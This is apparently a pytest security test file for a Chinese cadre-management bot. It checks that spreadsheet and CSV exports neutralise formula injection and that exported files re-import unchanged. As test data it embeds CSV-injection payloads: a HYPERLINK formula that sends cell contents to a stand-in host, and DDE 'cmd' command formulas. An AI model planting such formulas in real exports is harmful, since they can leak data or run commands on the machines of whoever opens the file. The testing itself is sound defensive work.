"""Hole 3: text typed by anyone must never become a live formula in an export, and exports re-import unchanged.

Attacks replayed: a guest's chat text ``=HYPERLINK(...)`` in ``orgbot audit export``; cadre and
course names starting with ``=`` (and ``+ - @``) imported, exported in both formats, imported again;
receipts (CLI file and chat CSV) and unanswered questions carrying a formula-like name or question.
"""

from __future__ import annotations

import asyncio
import csv
from pathlib import Path

import pytest
import sqlalchemy as sa
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from bot.cadres.demo import seed_demo
from bot.cadres.exporter import export_all
from bot.cadres.importer import import_files
from bot.cadres.sheets import read_tables, write_table
from bot.storage.db import create_engine, session_factory
from knowledge import store
from knowledge.formula_guard import csv_text, from_csv_text, xlsx_text
from tests.conftest import add_staff, say
from tests.security.exports import FORMULA_STARTS, csv_formula_cells, csv_rows, orgbot, xlsx_formulas

ATTACK = '=HYPERLINK("http://x?"&B2,"A1002的培训")'

formula_like = st.one_of(
    st.text(max_size=40),
    st.builds(lambda p, t: p + t, st.sampled_from([*FORMULA_STARTS, "'", "''", "'=", "''-", " =", "=="]), st.text()),
    st.sampled_from([ATTACK, "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "+1", "'=1", "\t=1", "\r=1"]),
)
SETTINGS = settings(
    max_examples=60, derandomize=True, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)


@SETTINGS
@given(st.text())
def test_csv_quoting_is_undone_exactly_and_never_leaves_a_formula_start(text):
    quoted = csv_text(text)
    assert not quoted.startswith(FORMULA_STARTS)
    assert from_csv_text(quoted) == text


@SETTINGS
@given(rows=st.lists(st.lists(formula_like, min_size=3, max_size=3), min_size=1, max_size=6))
def test_sheet_writer_writes_text_never_a_formula_and_reads_it_back(tmp_path_factory, rows):
    folder = tmp_path_factory.mktemp("sheets")
    table = [[f"r{i}", *row] for i, row in enumerate(rows)]
    for suffix in (".xlsx", ".csv"):
        path = folder / f"t{suffix}"
        write_table(path, "表", ["键", "甲", "乙", "丙"], table)
        if suffix == ".xlsx":
            assert xlsx_formulas(path) == []
        else:
            assert csv_formula_cells(csv_rows(path)) == []
        (back,) = read_tables(path)
        clean = xlsx_text if suffix == ".xlsx" else (lambda t: t)
        expected = [[None if not clean(v).strip() else clean(v) for v in row] for row in table]
        assert [values + [None] * (4 - len(values)) for _, values in back.rows] == expected


UNITS = [["单位编码", "单位名称", "上级单位编码"], ["U01", "=1+2 市委组织部", ""], ["U0101", "@干部一科", "U01"]]
CADRES = [
    ["干部编号", "姓名", "单位编码", "职务", "职级", "学历"],
    ["A2001", ATTACK, "U0101", "-科长", "+正科", "@本科"],
    ["A2002", "=张三", "U01", '=cmd|" /C calc"!A0', "", "'=1"],
]
TRAINING = [
    ["干部编号", "班次名称", "举办单位", "开始日期", "学时", "证书编号"],
    ["A2001", ATTACK, "-市委党校", "2026-03-02", "96", "=1"],
    ["A2002", "+2026年春季班", "@党校", "2026-04-01", "8", "-0315"],
]
RESERVE = [["干部编号", "后备类别", "入库日期", "考察结果"], ["A2002", "=副处级后备", "2024-06-30", "@优秀"]]


def _write_csv(path: Path, rows: list[list[str]]) -> Path:
    """A sheet as a person types it: the names really begin with = + - @ (no protective quote)."""
    with path.open("w", encoding="utf-8-sig", newline="") as f:
        csv.writer(f).writerows(rows)
    return path


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_imported_names_starting_with_formula_signs_export_as_text_and_reimport_unchanged(db_url, tmp_path, fmt):
    sheets = [
        _write_csv(tmp_path / f"{name}.csv", rows)
        for name, rows in (("单位", UNITS), ("干部", CADRES), ("培训记录", TRAINING), ("后备干部", RESERVE))
    ]
    first = orgbot("data", "import", *map(str, sheets), db_url=db_url, cwd=tmp_path)
    assert first.returncode == 0, first.stdout + first.stderr
    assert "【干部】新增 2" in first.stdout and "【培训记录】新增 2" in first.stdout

    out = tmp_path / "export"
    exported = orgbot("data", "export", str(out), "--format", fmt, db_url=db_url, cwd=tmp_path)
    assert exported.returncode == 0, exported.stderr
    files = sorted(out.iterdir())
    assert len(files) == 5
    for path in files:
        if fmt == "xlsx":
            assert xlsx_formulas(path) == [], path.name
        else:
            assert csv_formula_cells(csv_rows(path)) == [], path.name
    if fmt == "xlsx":
        cadres = {r[0]: r for r in load_workbook(out / "干部.xlsx").active.iter_rows(min_row=2, values_only=True)}
        assert cadres["A2001"][1] == ATTACK and cadres["A2001"][3] == "-科长"
    else:
        cadres = {r[0]: r for r in csv_rows(out / "干部.csv")[1:]}
        assert cadres["A2001"][1] == "'" + ATTACK and cadres["A2002"][1] == "'=张三"

    again = orgbot("data", "import", *map(str, files), db_url=db_url, cwd=tmp_path)
    assert again.returncode == 0, again.stdout + again.stderr
    assert again.stdout.count("新增 0，更新 0") == 4, again.stdout  # units, cadres, training, reserve

    second = tmp_path / "export2"
    assert orgbot("data", "export", str(second), "--format", fmt, db_url=db_url, cwd=tmp_path).returncode == 0
    for path in files:
        assert [t.rows for t in read_tables(path)] == [t.rows for t in read_tables(second / path.name)]


printable = st.characters(exclude_categories=("Cc", "Cs"))
names = st.one_of(
    st.text(printable, min_size=1, max_size=30),
    st.builds(lambda p, t: p + t, st.sampled_from(["=", "+", "-", "@", "'=", "''+"]), st.text(printable, max_size=25)),
).filter(lambda t: t.strip() and len(t) <= 60)


@settings(max_examples=12, derandomize=True, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(cadre_names=st.lists(names, min_size=2, max_size=2), course=names)
def test_any_imported_name_exports_without_formula_and_reimports_unchanged(
    db_url, tmp_path_factory, cadre_names, course
):
    """The invariant behind the replayed attack: import → export (xlsx, csv) → import changes nothing."""
    folder = tmp_path_factory.mktemp("roundtrip")
    sheets = [
        _write_csv(folder / "单位.csv", UNITS),
        _write_csv(folder / "干部.csv", [CADRES[0], *([f"A200{i}", n, "U01"] for i, n in enumerate(cadre_names))]),
        _write_csv(folder / "培训记录.csv", [TRAINING[0], ["A2000", course, "", "2026-03-02", "8", ""]]),
    ]

    async def run() -> None:
        engine = create_engine(db_url)
        db = session_factory(engine)
        try:
            first = await import_files(db, sheets)
            assert first.applied, [str(i) for i in first.issues]
            for fmt in ("xlsx", "csv"):
                out = folder / fmt
                async with db() as session:
                    written = [p for p, _ in await export_all(session, out, fmt)]
                for path in written:
                    assert (xlsx_formulas(path) if fmt == "xlsx" else csv_formula_cells(csv_rows(path))) == []
                again = await import_files(db, written)
                assert again.applied, [str(i) for i in again.issues]
                changed = {k: (c.created, c.updated) for k, c in again.changes.items() if c.created or c.updated}
                assert changed == {}, changed
        finally:
            await engine.dispose()

    asyncio.run(run())


async def test_guest_hyperlink_text_is_plain_text_in_the_audit_export(make_bot, db_url, tmp_path):
    bot = await make_bot()
    await seed_demo(bot)
    assert "只对已登记的工作人员开放" in await say(bot, "guest-x", ATTACK)

    xlsx, csv_path = tmp_path / "a.xlsx", tmp_path / "a.csv"
    for path in (xlsx, csv_path):
        done = orgbot("audit", "export", str(path), "--user", "guest-x", db_url=db_url, cwd=tmp_path)
        assert done.returncode == 0, done.stderr
    assert xlsx_formulas(xlsx) == []
    queries = [c for row in load_workbook(xlsx).active.iter_rows(values_only=True) for c in row if c == ATTACK]
    assert queries == [ATTACK]
    rows = csv_rows(csv_path)
    assert csv_formula_cells(rows) == [] and "'" + ATTACK in rows[1]
    (table,) = read_tables(csv_path)
    assert ATTACK in table.rows[0][1]


async def test_unanswered_question_export_is_safe_and_becomes_an_faq_unchanged(make_bot, db_url, tmp_path):
    bot = await make_bot()
    question = '=HYPERLINK("http://x?"&A1,"怎么请年休假")'
    await say(bot, "guest-y", question)
    csv_path, xlsx = tmp_path / "q.csv", tmp_path / "q.xlsx"
    env = {"ORGBOT_KNOWLEDGE_INDEX_DIR": str(tmp_path / "index")}
    for path in (csv_path, xlsx):
        done = orgbot("kb", "unanswered", "--export", str(path), db_url=db_url, cwd=tmp_path, env=env)
        assert done.returncode == 0 and "已导出 1 个" in done.stdout, done.stdout + done.stderr
    assert xlsx_formulas(xlsx) == []
    rows = csv_rows(csv_path)
    assert rows[0][:2] == ["问题", "答案"] and rows[1][0] == "'" + question and csv_formula_cells(rows) == []

    rows[1][1] = "按《年休假条例》执行。"
    with csv_path.open("w", encoding="utf-8-sig", newline="") as f:
        csv.writer(f).writerows(rows)
    imported = orgbot("kb", "import", str(csv_path), db_url=db_url, cwd=tmp_path, env=env)
    assert imported.returncode == 0, imported.stdout + imported.stderr
    async with bot.db() as session:
        stored = (await session.execute(sa.select(store.faq_entries.c.question, store.faq_entries.c.answer))).all()
    assert [tuple(r) for r in stored] == [(question, "按《年休假条例》执行。")]


async def test_receipt_exports_quote_a_formula_like_name(make_bot, db_url, tmp_path):
    name = '=HYPERLINK("http://x","点此确认")'
    assert orgbot("staff", "add", "zs", f"--name={name}", "--unit", "U01", db_url=db_url, cwd=tmp_path).returncode == 0
    assert (
        orgbot("staff", "add", "boss", "--name", "管理员", "--role", "admin", db_url=db_url, cwd=tmp_path).returncode
        == 0
    )
    made = orgbot("schedule", "add", "--name", "=会议", "--event", "12月30日 15:00", "--to", "单位:U01", "--yes",
                  db_url=db_url, cwd=tmp_path)  # fmt: skip
    assert "已创建 #1" in made.stdout, made.stdout + made.stderr
    assert orgbot("schedule", "run-now", "1", db_url=db_url, cwd=tmp_path).returncode == 0
    for suffix in (".xlsx", ".csv"):
        path = tmp_path / f"receipts{suffix}"
        done = orgbot("schedule", "receipts", "1", "--export", str(path), db_url=db_url, cwd=tmp_path)
        assert done.returncode == 0, done.stdout + done.stderr
        if suffix == ".xlsx":
            assert xlsx_formulas(path) == []
            assert next(load_workbook(path).active.iter_rows(min_row=2, values_only=True))[1] == name
        else:
            rows = csv_rows(path)
            assert rows[1][1] == "'" + name and csv_formula_cells(rows) == []

    bot = await make_bot()
    await add_staff(bot, "boss", "管理员", "admin")
    reply = await say(bot, "boss", "/回执 1 导出")
    lines = list(csv.reader(reply.split("\n", 1)[1].splitlines()))
    assert lines[1][1] == "'" + name and csv_formula_cells(lines) == []
